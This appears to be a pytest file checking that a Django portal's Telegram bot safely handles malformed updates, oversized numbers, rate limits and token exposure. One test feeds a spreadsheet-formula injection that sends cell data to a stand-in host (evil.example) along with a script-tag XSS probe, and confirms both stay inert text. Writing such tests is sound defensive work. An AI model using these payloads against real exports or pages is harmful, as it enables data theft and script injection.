"""Safety: what Telegram sends is input like any other. An update the bot cannot
take does not stop it (nor come back at every poll); numbers no database holds
are refused before the database; a title from Telegram stays text on the
portal's pages and in its exports; a long 429 on the poll is waited out."""

from __future__ import annotations

import datetime
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from bot.management.commands import telegram_bot
from bot.models import Draft, ProcessedUpdate, TelegramLink
from contentplan.exports import plan_xlsx
from contentplan.models import PlannedPost
from materials import services as materials
from materials.models import Submission
from networks.errors import NetworkError

from .botapi import TOKEN
from .test_bot import handle_all, linked

pytestmark = pytest.mark.django_db

TOO_BIG = "9" * 25  # no 64-bit column holds it: SQLite and PostgreSQL both fail on it


@pytest.mark.parametrize("data", [f"region:{TOO_BIG}.ask", f"send:{TOO_BIG}", "region:٣.ask"])
def test_a_callback_with_a_number_no_database_holds_changes_nothing(telegram, chair, data):
    person = linked(telegram, chair)
    telegram.press(person, data)
    handle_all(telegram)
    assert telegram.sent("answerCallbackQuery")
    assert TelegramLink.objects.get(telegram_id=person["id"]).region is None


def test_an_update_the_bot_cannot_take_is_skipped_once_and_the_next_handled(
    telegram, chair, caplog
):
    person = linked(telegram, chair)
    broken = telegram.message(person, text=12345)  # Telegram's text is a string
    odd_chat = telegram.message(person, text="Заголовок\nТекст")
    odd_chat["message"]["chat"]["id"] = "not-a-number"
    telegram.message(person, text="Собрание\nПрошло собрание.")
    handle_all(telegram)
    # Recorded as handled, so the next poll asks past it instead of failing on it forever.
    assert ProcessedUpdate.objects.filter(update_id=broken["update_id"]).exists()
    assert ProcessedUpdate.objects.filter(update_id=odd_chat["update_id"]).exists()
    assert Draft.objects.get().messages == ["Собрание\nПрошло собрание."]
    logged = "\n".join(r.getMessage() for r in caplog.records if r.name.startswith("bot"))
    assert str(broken["update_id"]) in logged and TOKEN not in logged


def test_a_telegram_user_id_beyond_64_bits_is_ignored(telegram, db):
    person = telegram.user(int(TOO_BIG))
    telegram.message(person, text="/start")
    handle_all(telegram)
    assert not TelegramLink.objects.exists()


def test_a_title_from_telegram_stays_text_on_the_page_and_in_the_plan(
    world, telegram, client_for, rubrics
):
    chair = world.users["chair"]
    person = linked(telegram, chair)
    title = '=HYPERLINK("http://evil.example/?"&A1,"<b>Отчёт</b>")'
    telegram.message(person, text=f"{title}\nТекст <script>alert(1)</script>")
    handle_all(telegram)
    telegram.press(person, f"send:{Draft.objects.get().pk}")
    handle_all(telegram)
    submission = Submission.objects.get()
    assert submission.title == title

    page = client_for(world.users["press"]).get(submission.get_absolute_url())
    html = page.content.decode()
    assert "<script>alert(1)</script>" not in html and "&lt;script&gt;" in html
    assert "<b>Отчёт</b>" not in html

    materials.submission_accept(
        submission=submission,
        user=world.users["press"],
        version=submission.version,
        date=datetime.date(2026, 12, 15),
        rubric=rubrics["Освещение мероприятий"],
    )
    post = PlannedPost.objects.get(title=title)
    sheet = load_workbook(io.BytesIO(plan_xlsx(plan=post.plan, posts=[post]))).active
    cells = [
        cell
        for row in sheet.iter_rows()
        for cell in row
        if cell.value and "HYPERLINK" in str(cell.value)
    ]
    assert cells and all(cell.data_type != "f" for cell in cells)


def test_a_long_429_on_the_poll_is_waited_out_as_asked():
    assert telegram_bot.pause_after(NetworkError("rate_limited", seconds=90)) == 90
    assert telegram_bot.pause_after(NetworkError("rate_limited")) == telegram_bot.PAUSE_AFTER_ERROR
    assert telegram_bot.pause_after(NetworkError("server_error")) == telegram_bot.PAUSE_AFTER_ERROR


def test_the_page_of_a_link_never_shows_the_token(telegram, client_for, chair):
    client = client_for(chair)
    client.post(reverse("bot:account"), {"action": "code"})
    page = client.get(reverse("bot:account")).content.decode()
    assert "t.me/union_test_bot" in page
    assert TOKEN not in page and TOKEN.split(":")[1] not in page
